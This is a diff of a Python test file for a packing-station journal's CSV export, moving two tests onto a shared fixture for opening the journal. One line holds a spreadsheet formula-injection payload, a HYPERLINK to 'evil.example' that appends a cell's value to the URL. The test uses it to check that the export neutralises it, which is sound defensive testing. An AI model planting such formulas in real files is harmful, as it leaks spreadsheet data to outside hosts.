@@ -7,6 +7,7 @@ from pathlib import Path
 from packstation.error_codes import ErrorCode
 from packstation.journal import CSV_COLUMNS, AttemptFilter, Journal, Packer, Stage
 from tests.journal import Failure, FakeClock
+from tests.journal.conftest import OpenJournal
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
@@ -30,9 +31,9 @@ def _fill(journal: Journal, clock: FakeClock) -> None:
     )
 
 
-def test_csv_round_trip_without_formula_injection(tmp_path: Path) -> None:
+def test_csv_round_trip_without_formula_injection(open_journal: OpenJournal) -> None:
     clock = FakeClock()
-    with Journal.open(tmp_path / "j.sqlite3", "station-1", clock=clock) as journal:
+    with open_journal("station-1", clock=clock) as journal:
         _fill(journal, clock)
         stream = io.StringIO(newline="")
         assert journal.export_csv(None, stream) == 2
@@ -65,8 +66,8 @@ def test_csv_round_trip_without_formula_injection(tmp_path: Path) -> None:
     assert [row["raw_scan"] for row in troubles] == ["'" + HOSTILE]
 
 
-def test_empty_export_has_the_header(tmp_path: Path) -> None:
-    with Journal.open(tmp_path / "j.sqlite3", "station-1") as journal:
+def test_empty_export_has_the_header(open_journal: OpenJournal) -> None:
+    with open_journal("station-1") as journal:
         stream = io.StringIO(newline="")
         assert journal.export_csv(AttemptFilter(station="nowhere"), stream) == 0
     assert stream.getvalue().splitlines() == [",".join(CSV_COLUMNS)]
